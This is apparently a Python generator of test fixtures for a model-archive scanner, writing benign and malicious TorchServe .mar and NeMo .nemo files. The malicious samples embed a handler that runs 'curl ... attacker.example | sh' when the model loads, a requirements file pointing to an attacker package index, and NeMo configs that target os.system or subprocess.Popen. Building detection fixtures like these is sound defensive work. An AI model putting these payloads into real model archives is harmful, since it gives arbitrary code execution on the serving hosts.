"""Writes the TorchServe and NeMo archive samples of testdata/pyformats.

Debian has neither torch-model-archiver nor NeMo, so the archives are
written here the way those tools write them: a .mar is a zip with
MAR-INF/MANIFEST.json and the files at its root under their base names
(model-archiver's manifest_components/model.py and model_packaging_utils.py
at pytorch/serve HEAD); a .nemo is a tar (optionally gzipped) of
model_config.yaml and model_weights.ckpt (NeMo's SaveRestoreConnector).
The weights are real: torch.jit.save and torch.save of a small network.
The benign TorchServe sample is made by torch-model-archiver itself
(make_mar_archiver.py).
Run with Debian's interpreter: /usr/bin/python3 make_archives.py.
"""
import io
import json
import os
import tarfile
import zipfile

import torch

HERE = os.path.dirname(os.path.abspath(__file__))


def net():
    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))


def scripted():
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(net()), buf)
    return buf.getvalue()


def state_dict():
    buf = io.BytesIO()
    torch.save(net().state_dict(), buf)
    return buf.getvalue()


def mar(kind, name, model, files):
    manifest = {
        "createdOn": "07/12/2026 06:00:00",
        "runtime": "python",
        "model": dict({"modelName": name.split(".")[0], "modelVersion": "1.0"}, **model),
        "archiverVersion": "0.9.0",
    }
    with zipfile.ZipFile(os.path.join(HERE, kind, name), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2))
        for n, data in files.items():
            z.writestr(n, data)


HANDLER = """import os
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        os.system("curl -s https://attacker.example/x | sh")
        super().initialize(context)
"""

MODEL_PY = """import torch


class Net(torch.nn.Sequential):
    def __init__(self):
        super().__init__(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
"""


def nemo(kind, name, config, gz=False):
    with tarfile.open(os.path.join(HERE, kind, name), "w:gz" if gz else "w") as t:
        for n, data in (("./model_config.yaml", config.encode()), ("./model_weights.ckpt", state_dict())):
            info = tarfile.TarInfo(n)
            info.size = len(data)
            info.mtime = 0
            t.addfile(info, io.BytesIO(data))


NEMO_CONFIG = """target: nemo.collections.asr.models.ctc_models.EncDecCTCModel
sample_rate: 16000
preprocessor:
  _target_: {target}
  sample_rate: 16000
  normalize: per_feature
optim:
  name: adamw
  lr: 0.001
"""


def main():
    mar("malicious", "torchserve_custom_handler.mar", {"serializedFile": "model.pt", "handler": "handler.py"},
        {"model.pt": scripted(), "handler.py": HANDLER})
    mar("malicious", "torchserve_shadowed_builtin_handler.mar", {"serializedFile": "model.pt", "handler": "image_classifier"},
        {"model.pt": scripted(), "image_classifier.py": HANDLER})
    mar("malicious", "torchserve_eager_model_requirements.mar",
        {"serializedFile": "model.pth", "handler": "image_classifier", "modelFile": "model.py", "requirementsFile": "requirements.txt"},
        {"model.pth": state_dict(), "model.py": MODEL_PY,
         "requirements.txt": "--extra-index-url https://pypi.attacker.example/simple\ntorchvision==0.14.1\n"})
    # A renamed .mar is still identified by its manifest.
    mar("malicious", "torchserve_renamed_archive.bin", {"serializedFile": "model.pt", "handler": "handler:handle"},
        {"model.pt": scripted(), "handler.py": HANDLER})

    nemo("benign", "nemo_asr.nemo", NEMO_CONFIG.format(target="nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor"))
    nemo("malicious", "nemo_target_os_system.nemo", NEMO_CONFIG.format(target="os.system"))
    nemo("malicious", "nemo_target_os_system_gz.nemo", NEMO_CONFIG.format(target="os.system"), gz=True)
    # restore_from imports the top-level target and calls it with the config.
    nemo("malicious", "nemo_model_target_subprocess.nemo",
         NEMO_CONFIG.replace("nemo.collections.asr.models.ctc_models.EncDecCTCModel", "subprocess.Popen").format(
             target="nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor"))


if __name__ == "__main__":
    main()
